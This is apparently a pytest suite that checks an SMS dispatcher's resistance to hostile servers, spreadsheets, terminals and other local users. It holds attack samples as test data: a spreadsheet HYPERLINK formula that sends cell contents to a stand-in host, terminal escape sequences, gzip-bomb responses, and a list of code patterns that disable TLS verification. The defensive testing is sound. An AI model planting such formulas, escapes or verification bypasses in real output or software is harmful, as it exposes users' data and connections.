"""What lies around the dispatcher and means it ill: servers, lists, names, terminals, spreadsheets, other users."""

import csv
import gzip
import io
import json
import os
import socket
import ssl
import stat
import subprocess
import sys
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from dispatcher import cli, config, providers, reporting, stack
from dispatcher.campaign import CampaignState
from dispatcher.errors import Misconfigured, OutcomeUnknown, ProviderError, Unreachable
from dispatcher.ledger import Ledger, NewCampaign, PlannedBatch, PlanTotals, ReportLine, open_ledger
from dispatcher.provider import Answers, Refusal
from dispatcher.transport import LARGEST_ANSWER
from tests.misbehaving import Server, answer, failure, to

NOW = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
MEGABYTE = 1 << 20

# --- Answers that would fill the memory -------------------------------------------------------------------------------


def streamed(megabytes: int, *headers: str) -> Callable[[socket.socket], None]:
    """Send a body that only the end of the connection ends."""

    def step(connection: socket.socket) -> None:
        connection.sendall("\r\n".join(["HTTP/1.1 200 OK", "Connection: close", *headers, "", ""]).encode())
        for _ in range(megabytes):
            connection.sendall(b"x" * MEGABYTE)

    return step


def zipped(megabytes: int) -> bytes:
    """Return an answer that is a thousand times as large as what comes over the wire."""
    return answer(200, gzip.compress(b" " * (megabytes * MEGABYTE), 6), "Content-Encoding: gzip")


@pytest.mark.parametrize("kind", ["streamed", "announced", "zipped"])
def test_an_answer_of_a_hundred_megabytes_is_cut_off(kind: str) -> None:
    steps = {
        "streamed": streamed(100),
        "announced": streamed(100, f"Content-Length: {100 * MEGABYTE}"),
        "zipped": zipped(100),
    }
    with Server(steps[kind]) as server:
        for call, error in ((to(server).submit, OutcomeUnknown), (to(server).look_up, Unreachable)):
            tracemalloc.start()
            try:
                raised = failure(call)
                _, peak = tracemalloc.get_traced_memory()
            finally:
                tracemalloc.stop()
            assert type(raised) is error
            assert "answer too large" in str(raised)
            assert peak < LARGEST_ANSWER + 16 * MEGABYTE


def test_a_refusal_of_a_hundred_megabytes_is_one_all_the_same() -> None:
    def step(connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 429 Slow\r\nConnection: close\r\nRetry-After: 7\r\n\r\n")
        for _ in range(100):
            connection.sendall(b"x" * MEGABYTE)

    with Server(step) as server:
        raised = failure(to(server).submit)
    assert len(str(raised)) < 300
    assert getattr(raised, "retry_after", None) == 7.0


@pytest.mark.parametrize("status", [200, 400, 500])
@pytest.mark.parametrize("body", [b"[" * 100_000, b'{"a":' * 100_000 + b"1" + b"}" * 100_000])
def test_json_nested_by_the_thousand(status: int, body: bytes) -> None:
    with Server(answer(status, body)) as server:
        with pytest.raises(ProviderError) as caught:
            to(server).submit("POST", "/send").json(dict)
        assert len(str(caught.value)) < 300
        if status == 200:
            assert type(caught.value) is OutcomeUnknown


def test_headers_without_end_are_cut_off() -> None:
    def step(connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\n")
        for at in range(200_000):
            connection.sendall(b"X-%d: %s\r\n" % (at, b"y" * 100))

    with Server(step) as server:
        assert type(failure(to(server).submit)) is OutcomeUnknown


# --- Who is spoken to -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_no_redirect_is_followed_and_no_credential_goes_elsewhere(status: int) -> None:
    with Server() as other, Server(answer(status, b"", f"Location: {other.url}/send")) as server:
        for call in (to(server).submit, to(server).look_up):
            raised = failure(call)
            assert type(raised) in (Misconfigured, OutcomeUnknown, Unreachable)
            assert other.url not in str(raised)
        assert len(server.requests) == 2
        assert other.connections == 0


@pytest.fixture(scope="module")
def tls(tmp_path_factory: pytest.TempPathFactory) -> ssl.SSLContext:
    """A server's own certificate, which nobody vouches for."""
    made = tmp_path_factory.mktemp("tls") / "own"
    command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
    try:
        subprocess.run(
            [*command, "-keyout", f"{made}.key", "-out", f"{made}.crt", "-days", "2", "-subj", "/CN=sandbox"],
            check=True,
            capture_output=True,
        )
    except FileNotFoundError:
        pytest.skip("there is no openssl to make a certificate with")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(f"{made}.crt", f"{made}.key")
    return context


def test_no_variable_turns_the_check_of_certificates_off(
    tls: ssl.SSLContext, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in {
        "CURL_CA_BUNDLE": "",
        "REQUESTS_CA_BUNDLE": "",
        "PYTHONHTTPSVERIFY": "0",
        "SSL_NO_VERIFY": "1",
    }.items():
        monkeypatch.setenv(name, value)
    with Server(tls=tls) as server:
        transport = to(server)
        assert type(failure(transport.submit)) is Unreachable
        assert transport._session().verify is True
        assert server.requests == []


def test_nothing_in_the_program_turns_it_off() -> None:
    package = Path(cli.__file__).parents[1]
    words = ("verify=False", "CERT_NONE", "check_hostname = False", "_create_unverified_context", "disable_warnings")
    found = [(path.name, word) for path in package.rglob("*.py") for word in words if word in path.read_text()]
    assert found == []


# --- Spreadsheets and terminals ---------------------------------------------------------------------------------------

CLIPBOARD = '=HYPERLINK("http://x.example/?"&A1)'
ESCAPE = "\x1b]0;owned\x07\x1b[31mred\x9b2J\x7f"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'�=1"),
        ("\n=1", "'\n=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("DELIVRD", "DELIVRD"),
        ("a=1", "a=1"),
        ("", ""),
        (ESCAPE, "�]0;owned��[31mred�2J�"),
    ],
)
def test_a_cell_is_no_formula_and_no_order(text: str, cell: str) -> None:
    assert reporting.harmless(text) == cell


@pytest.mark.parametrize(
    ("number", "cell"),
    [
        ("+12025550100", "+12025550100"),
        ("=12025550100", "'=12025550100"),
        ("-12025550100", "'-12025550100"),
        ("@12025550100", "'@12025550100"),
        ("+1202555+0100", "'+1202555+0100"),
        ("+1 202 555 0100", "'+1 202 555 0100"),
        ("+²", "'+²"),
        ("212.555.0101", "212.555.0101"),
    ],
)
def test_a_number_begins_with_its_plus_and_nothing_else_does(number: str, cell: str) -> None:
    line = ReportLine(row=1, number=number, state="invalid", reason=CLIPBOARD, provider_message_id="=1")
    out = io.BytesIO()
    assert reporting.write_report([line], form="csv", out=out) == 1
    (told,) = csv.DictReader(io.StringIO(out.getvalue().decode()))
    assert told["number"] == cell
    assert told["reason"] == "'" + CLIPBOARD
    assert told["provider_message_id"] == "'=1"
    raw = io.BytesIO()
    reporting.write_report([line], form="jsonl", out=raw)
    assert json.loads(raw.getvalue())["number"] == number
    assert json.loads(raw.getvalue())["reason"] == CLIPBOARD


def test_json_is_the_same_for_a_program_and_harmless_to_a_terminal() -> None:
    text = reporting.as_json({"name": ESCAPE + "\u202eé"})
    assert json.loads(text) == {"name": ESCAPE + "\u202eé"}
    assert all(sign.isprintable() for sign in text)
    assert "é" in text


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in list(os.environ):
        if name.startswith("DISPATCHER_"):
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("DISPATCHER_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


def hostile_campaign(ledger: Ledger) -> None:
    """A campaign in which all that came from outside is an order to a terminal."""
    new = NewCampaign(
        public_id="c2345678", name=ESCAPE, provider="winsms", template=ESCAPE, personalised=False, created_at=NOW
    )
    campaign_id = ledger.plans.begin(new, who="t", now=NOW)
    batch = PlannedBatch(numbers=[12025550100, 12025550101], rows=[1, 2], segments=[1, 1], fields=None, due_at=NOW)
    ledger.plans.append(campaign_id, first_number=1, batches=[batch] * 2, excluded=[], now=NOW)
    totals = PlanTotals(rows=4, messages=4, batches=2, segments=4)
    ledger.plans.finish(campaign_id, totals, who="t", now=NOW)
    lease, window = timedelta(seconds=60), timedelta(hours=72)
    taken = ledger.batches.claim("winsms", owner="w", now=NOW, lease=lease)
    assert taken is not None
    ledger.batches.begin_attempt(taken, now=NOW, lease=lease)
    answers = Answers(
        provider_message_ids=[ESCAPE, None],
        costs=[Decimal(1), None],
        refused={1: Refusal(reason=ESCAPE)},
        provider_reference=ESCAPE,
        note=ESCAPE,
    )
    content = ledger.batches.content(taken)
    ledger.outcomes.submitted(taken, content, answers, now=NOW, receipt_window=window)
    lost = ledger.batches.claim("winsms", owner="w", now=NOW, lease=lease)
    assert lost is not None
    ledger.batches.begin_attempt(lost, now=NOW, lease=lease)
    ledger.outcomes.unknown(lost, now=NOW, why=ESCAPE, receipt_window=window)
    campaign = ledger.campaigns.get("c2345678")
    ledger.campaigns.move(campaign, CampaignState.PAUSED, who="t", now=NOW, reason=ESCAPE)
    ledger.suppressions.add({12025550102: ESCAPE}, source=ESCAPE, now=NOW)


@pytest.mark.parametrize(
    "args",
    [
        ("status", "c2345678"),
        ("status", ESCAPE),
        ("status", "c2345678", "--json"),
        ("list",),
        ("list", "--json"),
        ("report", "c2345678"),
        ("report", "c2345678", "--format", "jsonl"),
        ("report", "c2345678", "-o", f"{ESCAPE}.csv"),
        ("unknown",),
        ("unknown", "--json"),
        ("resolve", f"{ESCAPE}/2", "give-up"),
        ("resume", "c2345678"),
        ("cancel", "c2345678"),
        ("optouts", "list"),
        ("optouts", "list", "--json"),
        ("optouts", "export"),
        ("optouts", "import", ESCAPE),
        ("enqueue", ESCAPE, "--provider", "winsms", "--text", "x"),
        ("enqueue", "people.csv", "--provider", "winsms", "--text", "{" + ESCAPE + "}"),
        ("enqueue", "people.csv", "--provider", "winsms", "--text", "x", "--phone-column", ESCAPE),
        ("enqueue", f"{ESCAPE}.csv", "--provider", "winsms", "--text", "x"),
        (ESCAPE,),
        ("status", f"--{ESCAPE}"),
    ],
)
def test_no_order_reaches_the_terminal(
    home: Path, args: tuple[str, ...], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    ledger = open_ledger(f"sqlite:///{home / 'ledger.db'}")
    hostile_campaign(ledger)
    ledger.close()
    people = f"phone,{ESCAPE}\n+12025550100,{ESCAPE}\nn/a{ESCAPE},x\n"
    for name in ("people", ESCAPE):
        Path(f"{name}.csv").write_text(people, encoding="utf-8", newline="")
    monkeypatch.setattr("sys.argv", ["dispatcher", *args])
    with pytest.raises(SystemExit) as end:
        cli.main()
    out, err = capsys.readouterr()
    assert end.value.code in (0, 1, 2, None)
    assert out or err
    for stream in (out, err):
        assert not [sign for sign in stream if not sign.isprintable() and sign != "\n"]


# --- Other users of the machine ---------------------------------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask() -> Iterator[None]:
    """What is made is open to everyone, unless somebody takes care."""
    before = os.umask(0)
    yield
    os.umask(before)


def test_the_data_folder_and_the_ledger_are_their_owners_alone(home: Path, open_umask: None) -> None:
    (home.parent / "people.csv").write_text("phone\n+12025550100\n")
    sys.argv, before = ["dispatcher", "enqueue", "people.csv", "--provider", "winsms", "--text", "Hi"], sys.argv
    try:
        with pytest.raises(SystemExit) as end:
            cli.main()
    finally:
        sys.argv = before
    assert not end.value.code
    assert mode(home) == 0o700
    ledger = open_ledger(f"sqlite:///{home / 'ledger.db'}")
    with ledger.database.write() as tx:
        tx.run("UPDATE campaign SET priority = 1")
        beside = sorted(path.name for path in home.iterdir())
        assert beside == ["ledger.db", "ledger.db-shm", "ledger.db-turn", "ledger.db-wal"]
        assert {mode(path) for path in home.iterdir()} == {0o600}
    ledger.close()


def test_what_points_a_home_at_its_sandbox_is_the_owners_alone(tmp_path: Path, open_umask: None) -> None:
    seen: list[int] = []
    path = tmp_path / config.RUNTIME_FILE

    def look(frame: object, event: str, arg: object) -> None:
        if path.exists():
            seen.append(mode(path))

    sys.setprofile(look)
    try:
        config.point_at_sandbox(tmp_path, {"winsms": {"api_key": "any"}})
    finally:
        sys.setprofile(None)
    assert mode(path) == 0o600
    assert set(seen) <= {0o600}, "others could read it for a moment"
    config.point_at_sandbox(tmp_path, {"winsms": {"api_key": "another"}})
    assert "another" in path.read_text()


def test_the_folder_of_the_redis_socket_is_the_owners_alone(
    home: Path, open_umask: None, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(stack, "find_redis_server", lambda: "redis-server")
    for folder in (tmp_path / "short", tmp_path / ("long" * 30)):
        monkeypatch.setenv("DISPATCHER_HOME", str(folder))
        monkeypatch.setenv("TMPDIR", str(tmp_path))
        monkeypatch.setattr("tempfile.tempdir", None)
        settings = config.load(providers.settings_models())
        folder.mkdir(mode=0o700)
        stack._redis(settings)
        assert mode(settings.redis_socket.parent) == 0o700
        # One that is there already, and open to others, is closed to them.
        settings.redis_socket.parent.chmod(0o777)
        stack._redis(settings)
        assert mode(settings.redis_socket.parent) == 0o700
